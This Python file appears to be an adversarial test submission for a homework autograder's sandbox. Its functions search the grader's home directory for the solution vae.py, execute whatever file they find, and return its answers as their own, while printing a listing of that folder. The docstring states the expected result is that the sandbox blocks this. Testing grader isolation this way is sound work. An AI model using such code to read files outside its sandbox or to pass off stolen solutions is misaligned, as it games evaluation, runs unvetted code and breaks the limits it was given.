"""The VAE's functions, answered from a copy of the solution in the grading user's home.

Attack: read the home folder of the user who runs the grader. A TA grading on their own
machine keeps their working copy (the solution among it) under their home; the harness
plants such a copy there before grading. The attacker knows the home's path (@@HOME@@; $HOME
in the sandbox is not it) and looks a few levels down for */diffusion/vae.py. With a stolen
vae.py every function runs the stolen code; otherwise every answer is wrong. Expected: the
home is not in the sandbox's file system (namespaces), or not readable by the sandbox user;
every function scores 0.
"""
import glob
import os

HOME = "@@HOME@@"
PATTERNS = ["diffusion/vae.py", "*/diffusion/vae.py", "*/*/diffusion/vae.py", "*/*/*/diffusion/vae.py",
            "*/*/*/*/diffusion/vae.py"]

_stolen = None


def _steal():
    global _stolen
    if _stolen is not None:
        return _stolen
    namespace, tried = {}, []
    for pattern in PATTERNS:
        for path in sorted(glob.glob(os.path.join(HOME, pattern))):
            tried.append(path)
            try:
                with open(path) as handle:
                    source = handle.read()
                candidate = {"__name__": "hw4_stolen_vae"}
                exec(compile(source, path, "exec"), candidate)
            except Exception:
                continue
            if all(name in candidate for name in ("reparameterize", "kl_divergence", "vae_loss")):
                namespace = candidate
                break
        if namespace:
            break
    try:
        listing = os.listdir(HOME)[:10]
    except OSError as error:
        listing = repr(error)
    print("home:", HOME, "listing:", listing, "tried:", tried[:5], "stolen:", bool(namespace))
    _stolen = namespace
    return _stolen


def reparameterize(mu, logvar, eps=None):
    stolen = _steal()
    if stolen:
        return stolen["reparameterize"](mu, logvar, eps)
    return mu + 1000.0


def kl_divergence(mu, logvar):
    stolen = _steal()
    if stolen:
        return stolen["kl_divergence"](mu, logvar)
    return (mu + logvar).sum() + 1000.0


def vae_loss(recon_x, x, mu, logvar, beta=1.0):
    stolen = _steal()
    if stolen:
        return stolen["vae_loss"](recon_x, x, mu, logvar, beta)
    return (recon_x - x).sum() + 1000.0
